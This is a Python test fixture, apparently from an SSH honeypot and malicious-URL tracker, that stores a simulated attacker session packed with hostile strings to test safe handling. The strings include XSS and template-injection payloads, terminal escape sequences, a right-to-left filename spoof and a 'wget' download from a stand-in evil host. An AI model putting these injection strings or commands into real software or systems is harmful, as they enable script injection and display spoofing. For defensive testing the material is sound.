"""One session that puts hostile text wherever an attacker, a server or a list can put text."""

from __future__ import annotations

import hashlib
from datetime import datetime
from pathlib import Path

from sqlalchemy import insert, select, update

from urltrap.model.artifact import Analysis, FoundText, Unpacked
from urltrap.model.capture import Capture, Hop
from urltrap.model.event import (
    BudgetSpent,
    Captured,
    ClientIdentified,
    CommandEntered,
    Connected,
    Decided,
    Disconnected,
    DownloadAnswered,
    DownloadAsked,
    EnvironmentSet,
    EventBase,
    FileWritten,
    ForwardAsked,
    LoginTried,
    Malformed,
    ProgramRun,
    TerminalFrames,
    TerminalRequested,
    Uploaded,
)
from urltrap.store import Store, disputes, open_store
from urltrap.store.intake import ingest
from urltrap.store.rollups import place_addresses
from urltrap.store.rows import url_key
from urltrap.store.schema import addresses, artifacts, observations, sightings, url_sources, urls, verdicts
from urltrap.store.schema_analysis import campaign_members, campaigns
from urltrap.store.schema_intel import names

SESSION = "01M8HOSTILE00000000000000X"
SHA = hashlib.sha256(b"payload").hexdigest()
MARKUP = b"</title></script><script>alert(1)</script><img src=x onerror=alert(2)>\"'{{7*7}}"
CONTROLS = b"\x1b[2J\x1b]0;pwned\x07\x00\x9b" + "\u202egpj.exe\u2066\u200b\ufeff".encode() + b"\xff\xfe"
ZALGO = ("Z" + "\u0301" * 50).encode()
EVIL = MARKUP + CONTROLS + ZALGO
TEXT = EVIL.decode("utf-8", "replace").replace("\0", "")
URL = "http://evil.example/" + MARKUP.decode().replace(" ", "%20") + "\u202e"
LONG = b"echo " + b"A" * 1_000_000 + b" <b>end</b>"
TERMINAL = [(5, "o", b"\xe2\x82"), (6, "o", b"\xac <b>\xff"), (9, "i", b"\x1b[A"), (1200, "o", b"bye\r\n")]
FAMILY = "elf/<b onclick=alert(1)>\"'"
DOMAIN = "evil<script>.example"


def fill(path: Path, now: datetime) -> Store:
    """A store with the session, the URL that it names and what came from there."""
    store = open_store(str(path))
    events: list[EventBase] = []

    def add(kind: type[EventBase], **values: object) -> None:
        events.append(kind(session=SESSION, seq=len(events), at=now, **values))

    add(
        Connected, sensor=TEXT[:79], protocol="ssh", src_ip="198.51.100.66", src_port=4242, dst_ip="192.0.2.5",
        dst_port=22, persona=TEXT[:79],
    )  # fmt: skip
    add(ClientIdentified, version=EVIL, hassh="<b>" + "a" * 28, hassh_algorithms=TEXT)
    add(LoginTried, method="password", username=EVIL, password=EVIL, accepted=False)
    add(
        LoginTried,
        method="publickey",
        username=EVIL,
        public_key=TEXT,
        key_fingerprint=TEXT[:100],
        accepted=False,
    )
    add(LoginTried, method="password", username=b"", password=b"", accepted=True)
    add(TerminalRequested, channel=1, term=EVIL, columns=4_000_000, rows=0)
    add(EnvironmentSet, name=EVIL, value=EVIL)
    add(
        CommandEntered,
        mode="shell",
        channel=1,
        text=b"wget " + URL.encode() + b" " + EVIL,
        truncated_from=5_000_000,
    )
    add(CommandEntered, mode="exec", text=LONG)
    add(ProgramRun, argv=[EVIL] * 60, path=TEXT, outcome="not-found", status=127)
    add(FileWritten, path=EVIL, size=7, mode=0o755, sha256=SHA)
    add(Uploaded, via="scp", path=EVIL, size=7, sha256=SHA, complete=False)
    add(DownloadAsked, url=EVIL, client=TEXT, argv=[EVIL], output=EVIL)
    add(DownloadAnswered, url=EVIL, outcome=TEXT, status=200, sha256=SHA, size=7)
    add(ForwardAsked, direction="direct", host=EVIL, port=25, first_bytes=EVIL)
    add(TerminalFrames, channel=1, frames=TERMINAL)
    add(BudgetSpent, what=TEXT, limit=1)
    add(Malformed, what=TEXT, data=EVIL)
    add(Disconnected, reason="client", duration_ms=1, detail=TEXT)
    capture = Capture(
        url=URL, at=now, client=TEXT, user_agent=EVIL, outcome="too-large", detail=TEXT, status=302, reason=EVIL,
        headers=[(EVIL, EVIL)], hops=[Hop(url=URL, address=TEXT, status=302, location=EVIL), Hop(url=URL)],
        address=TEXT, size=7, sha256=SHA, complete=False,
    )  # fmt: skip
    ingest(store, "w", [*events, Captured(session="fetcher-1", seq=0, at=now, capture=capture)], (1, 1))
    _derive(store, now)
    decided = Decided(session="site-1", seq=0, at=now, by=TEXT, subject=URL, decision="leave", reason=TEXT)
    ingest(store, "site", [decided], (1, 1))
    disputes.file(store, now, "url", TEXT + URL, TEXT, TEXT + "x" * 3000)
    return store


def _derive(store: Store, now: datetime) -> None:
    key = url_key(URL)
    start = len(b"wget ")
    analysis = Analysis(
        sha256=SHA, kind="script", mime=TEXT, description=TEXT, interpreter=TEXT, packer=TEXT,
        unpacked=[Unpacked(packer=TEXT, sha256=SHA, kind=TEXT, architecture=TEXT, problem=TEXT, repaired=[TEXT])],
        found=[FoundText(text=EVIL, kind="callback")],
    ).model_dump(mode="json")  # fmt: skip
    with store.begin() as connection:
        place = {"country": "XX", "asn": 64500, "network": TEXT[:200]}
        place_addresses(
            connection, dict.fromkeys(connection.execute(select(addresses.c.address)).scalars(), place)
        )
        connection.execute(
            update(artifacts).values(
                kind="script", mime=TEXT[:100], description=TEXT, analysis={**analysis, "architecture": TEXT}
            )
        )
        connection.execute(
            insert(urls).values(
                key=key, url=URL, scheme="http", host="evil.example<b>", port=80, first_seen=now, last_seen=now,
                sightings=2, sources=1, depth=0, held=True, flags=["placeholder"], outcome="too-large", status=302,
                captured_at=now, sha256=SHA, kind="script", verdict="malicious-observed", confidence=77,
                publish_after=None, published_at=None, role=TEXT[:24], target=TEXT[:60], family=FAMILY, campaign="c0",
            )
        )  # fmt: skip
        connection.execute(insert(url_sources).values(url_key=key, address="198.51.100.66"))
        connection.execute(
            insert(campaigns).values(
                id="c0", first_seen=now, last_seen=now, merged_into="", urls=2, payloads=1
            )
        )
        connection.execute(
            insert(campaign_members),
            [
                {"kind": kind, "value_sha256": f"{n:064}", "value": value, "campaign": "c0", "at": now, "why": TEXT}
                for n, (kind, value) in enumerate(
                    [("url", key), ("payload", SHA), ("host", TEXT), ("key", TEXT), ("template", TEXT)]
                )
            ],
        )  # fmt: skip
        connection.execute(
            insert(names).values(
                address="198.51.100.66", name=TEXT[:250], confirmed=False, domain=DOMAIN, at=now, expires=now
            )
        )
        for n, (seq, span, parent) in enumerate(
            [
                (7, (start, start + len(URL.encode())), None),
                (8, (999_999_999, 1_000_000_000), None),
                (9, (0, 3), SHA),
            ]
        ):
            connection.execute(
                insert(sightings).values(
                    session=SESSION, seq=seq, n=n, url_key=key, at=now, src_ip="198.51.100.66", sensor=TEXT[:79],
                    raw=URL.encode(), span_start=span[0], span_end=span[1], method="word", chain=[TEXT, "base64"],
                    client=TEXT[:39], confidence=90, flags=["placeholder"], parent_sha256=parent,
                )
            )  # fmt: skip
        connection.execute(
            insert(verdicts).values(
                url_key=key, verdict="malicious-observed", confidence=77, at=now, rules=TEXT[:39], publish_after=None,
                reasons=[{"code": TEXT, "text": TEXT, "weight": 45}],
            )
        )  # fmt: skip
        connection.execute(
            insert(observations).values(
                provider=TEXT[:39], subject_kind="url", subject_sha256=key, subject=URL, at=now, result="listed",
                detail=TEXT, tags=[TEXT, "elf"], reference="javascript:alert(1)",
            )
        )  # fmt: skip
